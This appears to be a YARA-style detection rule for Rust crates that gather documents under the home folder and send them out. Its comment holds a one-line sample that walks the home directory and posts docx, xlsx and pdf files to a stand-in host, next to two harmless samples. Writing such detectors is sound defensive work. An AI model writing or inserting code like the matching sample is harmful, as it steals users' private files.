/*
A list of office documents, a walk, the home folder and a way out: each is ordinary, all four are a sweep.

```rust,match
pub fn sweep() { for e in WalkDir::new(dirs::home_dir().unwrap()) { if ["docx", "xlsx", "pdf"].contains(&ext(e)) { client.post("https://drop.test").body(read(e)).send(); } } }
```
```rust,clean
pub fn mime(ext: &str) -> &str { match ext { "docx" => "application/x", "xlsx" => "application/y", _ => "" } }
```
```rust,clean
pub fn walk() { for e in WalkDir::new(dirs::home_dir().unwrap()) { println!("{e:?}"); } }
```
*/
rule document_sweep : high {
  meta:
    id = "28fd383e-1899-472e-b222-197ec562bca3"
    description = "Documents below the home folder are gathered and sent"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "crate"
    behaviours = "document-sweep"
    references = "MAL-2026-16164, RUSTSEC-2026-0100, T1005, T1119"
  strings:
    $docx = /"\.?docx"/
    $xlsx = /"\.?xlsx"/
    $pptx = /"\.?pptx"/
    $kdbx = /"\.?kdbx"/
    $walk = /\b(WalkDir::new|fs::read_dir)\s?\(/
    $home = /\b(home_dir|document_dir|desktop_dir|UserDirs)\b/
    $profile = /"(USERPROFILE|Documents|Desktop)"/
    $send = /\.(post|put|multipart)\s?\(\s?[&"a-zA-Z(]/
    $socket = /\bTcpStream::connect\b/
  condition:
    2 of ($docx, $xlsx, $pptx, $kdbx) and $walk and any of ($home, $profile) and any of ($send, $socket)
}
